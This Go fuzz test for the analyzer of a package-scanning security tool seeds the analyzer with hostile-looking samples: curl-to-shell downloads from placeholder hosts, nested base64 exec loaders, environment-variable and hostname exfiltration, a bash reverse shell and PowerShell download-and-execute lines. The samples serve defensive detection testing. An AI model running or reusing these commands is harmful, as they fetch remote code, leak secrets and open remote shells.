package analyze_test

import (
	"bytes"
	"encoding/base64"
	"testing"

	"github.com/airlock-sec/airlock/internal/analyze"
	"github.com/airlock-sec/airlock/internal/model"
)

var fuzzLangs = []analyze.Lang{analyze.Python, analyze.JavaScript, analyze.Shell, analyze.PowerShell, analyze.Text}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// fuzzSeeds are small inputs in every language the analyzer reads,
// including the shapes the rules look for (decoding layers, process
// spawning, obfuscation) and broken syntax.
var fuzzSeeds = []string{
	"",
	"\n",
	"import os\nos.system('id')\n",
	"import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('" +
		b64("import base64; exec(base64.b64decode('"+b64("import os; os.system('curl -s https://x.invalid | sh')")+"'))") +
		"'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
	"import base64, zlib\nexec(zlib.decompress(base64.b64decode('eNpLzs8rSc0rAQALmQMG')))\n",
	"exec(''.join(chr(x) for x in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 32, 111, 115, 46, 103, 101, 116, 99, 119, 100, 40, 41]))\n",
	"_p = ')(dwcteg.so ;so tropmi'[::-1]\nexec(_p)\n",
	"IIlIlIlIlI = getattr(__import__(\"\\x62\\x75\\x69\\x6c\\x74\\x69\\x6e\\x73\"), \"\\x65\\x78\\x65\\x63\")\n",
	"a, b = exec, eval\nx = eval('compile')\nglobals()[name]()\n__builtins__.__dict__[k]\n",
	"def f(\n    x=(1,\n",
	"class A:\n    def run(self):\n        requests.post('https://h.invalid', json=dict(os.environ))\n",
	"from setuptools import setup\nfrom setuptools.command.install import install\nsetup(cmdclass={'install': X})\n",
	"s = b'\\xff\\x00' + u'\\N{BULLET}' + f'{x!r}' + rb'\\d'\n'''unterminated",
	"const cp = require('child_process');\ncp.exec('curl -s https://x.invalid/i.sh | sh');\n",
	"eval(atob('" + b64("fetch('https://x.invalid').then(r=>r.text()).then(eval)") + "'));\n",
	"const {execSync: run} = require('child_process'); run(`nslookup ${require('os').hostname()}.x.invalid`);\n",
	"const _0x5a1f=['log'];(function(_0x3c2e41,_0x1d9a7b){})(_0x5a1f,0x1b3);\n",
	"window.ethereum.request = async (a) => a; window.fetch = async (...a) => a;\n",
	"!function(e){\"use strict\";var t=/[\"']/g;return e.replace(t,'')}(this);",
	"`a${b + `c${d}e`}f` /re/g.test(x) a / b / c",
	"import x from './y.js'; export default () => new Function('return this')();",
	"#!/bin/sh\ncurl -fsSL https://x.invalid/i.sh | bash\nnslookup $(whoami).x.invalid\n",
	"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
	"echo aW1wb3J0IG9z | base64 -d | python3\n",
	"if [ -f x ]; then\n  (cd y && make) || exit 1\nfi\ncase $a in *) ;; esac\n",
	"$(",
	"powershell -NoProfile -WindowStyle Hidden -EncodedCommand " + base64.StdEncoding.EncodeToString([]byte("I\x00E\x00X\x00 \x00")),
	"IEX (New-Object Net.WebClient).DownloadString('https://x.invalid/p.ps1')\n",
	"Paste the log to pastebin.com and link it.\n",
	"\x00\x01\x02\xff\xfe\r\r\n\u2028\u2029",
	"\xef\xbb\xbfimport os\r\nos.getcwd()\r",
}

// FuzzAnalyze runs the analyzer on arbitrary bytes as every language. It
// must not panic, must stay within its limits, and every line it reports
// (calls, strings, imports, commands, notes, decoded layers) must be a
// line of the analyzed file.
func FuzzAnalyze(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add([]byte(s))
	}
	lim := analyze.DefaultLimits()
	lim.MaxLayerBytes = 1 << 20
	lim.MaxDepth = 6
	f.Fuzz(func(t *testing.T, data []byte) {
		maxLine := 1 + bytes.Count(data, []byte("\n")) + bytes.Count(data, []byte("\r")) +
			bytes.Count(data, []byte("\u2028")) + bytes.Count(data, []byte("\u2029"))
		for _, lang := range fuzzLangs {
			u := &analyze.Unit{Path: "pkg/file", Line: 1, Lang: lang, Context: model.Install, Text: append([]byte(nil), data...)}
			facts := analyze.Analyze(u, lim)
			if facts == nil {
				t.Fatalf("%s: Analyze returned nil", lang)
			}
			units := 0
			layerBytes := 0
			facts.Walk(func(x *analyze.Facts) {
				units++
				if x.Unit == nil {
					t.Fatalf("%s: facts without a unit", lang)
				}
				if x != facts {
					layerBytes += len(x.Unit.Text)
					if !x.Unit.Child {
						t.Errorf("%s: decoded layer not marked as a child", lang)
					}
				}
				check := func(what string, line int) {
					t.Helper()
					if line < 0 {
						t.Errorf("%s: %s at line %d < 0 (layers %v)", lang, what, line, x.Unit.Layers)
					}
					if x.Loc(line) > maxLine {
						t.Errorf("%s: %s at line %d (file line %d) past the end of a %d-line file (layers %v)", lang, what, line, x.Loc(line), maxLine, x.Unit.Layers)
					}
				}
				check("unit", x.Unit.Line)
				for _, s := range x.Imports {
					check("import "+s.Name, s.Line)
				}
				for _, c := range x.Calls {
					check("call "+c.Callee, c.Line)
				}
				for _, s := range x.Strings {
					check("string", s.Line)
				}
				for _, c := range x.Commands {
					check("command", c.Line)
				}
				for _, n := range x.Notes {
					check("note "+n.Kind, n.Line)
				}
				for _, n := range x.Obfuscation {
					check("obfuscation "+n.Kind, n.Line)
				}
			})
			if layerBytes > lim.MaxLayerBytes {
				t.Errorf("%s: %d bytes of decoded layers, limit %d", lang, layerBytes, lim.MaxLayerBytes)
			}
		}
	})
}
